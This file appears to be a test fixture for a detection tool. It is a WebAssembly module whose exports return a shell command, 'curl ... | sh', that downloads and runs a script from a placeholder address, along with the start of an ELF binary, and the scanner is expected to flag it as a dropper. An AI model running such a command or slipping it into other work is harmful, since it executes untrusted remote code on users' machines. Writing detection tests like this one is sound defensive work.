;; RUN: spoor trace % --json
;; WHAT: Exports return a command that fetches and runs a script, and the head of an ELF file.
;; EXPECT: verdict=SUSPICIOUS family=dropper rule=load-code/script rule=load-code/embedded status=exited
(module
  (memory (export "memory") 1)
  (func (export "step") (result i32)
    (memory.copy (i32.const 4096) (i32.const 1024) (i32.const 52))
    (i32.const 4096))
  (func (export "image") (result i32 i32) (i32.const 2048) (i32.const 64))
  (data (i32.const 1024) "curl -fsSL http://192.0.2.7/setup | sh -s -- --quiet")
  (data (i32.const 2048) "\7f\45\4c\46\02\01\01\00\00\00\00\00\00\00\00\00\02\00\3e\00\01\00\00\00"))
